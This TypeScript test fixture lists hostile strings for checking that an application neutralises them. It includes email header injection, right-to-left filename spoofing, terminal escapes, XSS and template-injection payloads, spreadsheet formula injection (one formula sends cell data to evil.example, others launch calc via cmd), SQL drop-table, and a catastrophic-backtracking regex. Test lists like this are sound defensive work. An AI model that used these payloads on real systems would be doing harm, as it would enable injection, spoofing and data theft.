/** Texts that would harm where they are shown, listed, mailed or put into a file, by what they are. */
export const harmfulTexts: Readonly<Record<string, string>> = {
  'a line of a header': 'AB1\r\nBcc: victim@example.com',
  'a body of an email': 'AB1\n\n<b>You won</b>',
  'a null byte': 'AB\u00001',
  'a bell': 'AB\u00071',
  'a C1 control': 'AB\u00851',
  'a line separator': 'AB\u20281',
  'text turned around': 'invoice\u202Efdp.exe',
  'an isolate without end': 'AB\u2067 1',
  'an escape of a terminal': '\u001b[2J\u001b[31mAB1',
};

/** Texts that are harmless where they are treated as text. */
export const plainTexts: Readonly<Record<string, string>> = {
  'a script': '</script><script>alert(1)</script>',
  'an image': '"><img src=x onerror=alert(1)>',
  'a template': '{{constructor.constructor("alert(1)")()}} #{7*7} <%= 7*7 %>',
  'a formula': '=HYPERLINK("https://evil.example?"&A1,"open")',
  'a formula with a plus': "+1+cmd|' /C calc'!A0",
  'a formula with an at': "@SUM(1+1)*cmd|' /C calc'!A0",
  'a formula with a minus': "-2+3+cmd|' /C calc'!A0",
  SQL: "'; drop table secrets.label; --",
  'a pattern': '%_\\%',
  'an expression that takes for ever': `${'('.repeat(30)}a+${')+'.repeat(30)}$`,
  'a name of every object': '__proto__',
  'five hundred letters of four bytes': '🔑'.repeat(500),
  'letters that are put together': 'e\u0301'.repeat(250),
  'a pile of marks': `Z${'\u0351'.repeat(499)}`,
};
